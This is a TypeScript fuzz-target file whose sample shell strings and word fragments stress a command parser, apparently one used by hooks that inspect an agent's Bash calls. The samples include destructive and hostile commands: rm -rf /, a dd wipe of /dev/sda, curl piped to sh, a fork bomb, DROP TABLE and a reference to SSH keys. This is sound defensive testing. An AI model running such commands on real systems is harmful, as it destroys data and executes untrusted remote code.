// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are variables of a shell
import { commandsOf } from "hookline/commands";
import { type FuzzTarget, inProcess } from "../target.ts";

/** Shell text, in which rules look for commands. */
export const shell: FuzzTarget = {
  name: "shell",
  samples: [
    "rm -rf / --no-preserve-root",
    'for f in *.txt; do mv "$f" "${f%.txt}.md" && echo $(basename "$f"); done 2>&1 | tee log',
    "bash -c 'curl -s https://x.test/i.sh | sh' <<EOF\nhello $HOME `id`\nEOF",
    "case $1 in a|b) git push --force origin main ;; *) : ;; esac",
    'if [[ -f ~/.ssh/id && $x =~ ^a+$ ]]; then eval "$(cat <(echo ls))"; fi',
    "python3 -c \"import shutil; shutil.rmtree('/tmp/x')\"; perl -e 'unlink glob \"*\"'",
    "find . -name '*.log' -exec rm {} + ; xargs -0 rm < <(find / -print0)",
    "a=1 b=${a:-$(c)} env -i sudo -u root dd if=/dev/zero of=/dev/sda",
    "function f() { f | f & }; f; trap 'kill 0' EXIT; arr=(1 2 3); echo ${arr[@]:1:2} {a..z}{1..9}",
    'psql -c "DROP TABLE users; -- x"; ssh h "cd /; rm -r *"; tar c . | ssh h tar x',
  ],
  words: [
    ...[
      "|",
      "||",
      "&&",
      ";",
      "&",
      "$(",
      "`",
      "<<EOF\n",
      "<<<",
      "<(",
      "${x:-",
      "${x//",
      "$((",
      "[[",
      "]]",
      "{",
      "}",
      "\\\n",
      "'",
      '"',
      "$'\\x41'",
      "#",
      "~",
      "*",
    ],
    ...[
      "sudo",
      "env",
      "bash -c",
      "sh -c",
      "eval",
      "xargs",
      "find / -exec",
      "rm -rf",
      "python -c",
      "node -e",
      "git",
      "docker run",
      "ssh h",
      "base64 -d",
      "{a..z}",
    ],
    ...[
      "{1..100000}",
      "${x@P}",
      "!!",
      "2>&1",
      ">|",
      "&>",
      "exec 3<>",
      "time",
      "coproc",
      "select x in",
      "until",
      "while :; do",
      "done",
      "esac",
      "fi",
      ";;&",
    ],
  ],
  open: async () =>
    inProcess((input) => {
      const payload = { tool: { name: "Bash", input: { command: input.toString("utf8") } }, cwd: "/work" };
      JSON.stringify(commandsOf({ payload } as never, { home: "/home/a" }));
      return undefined;
    }),
};
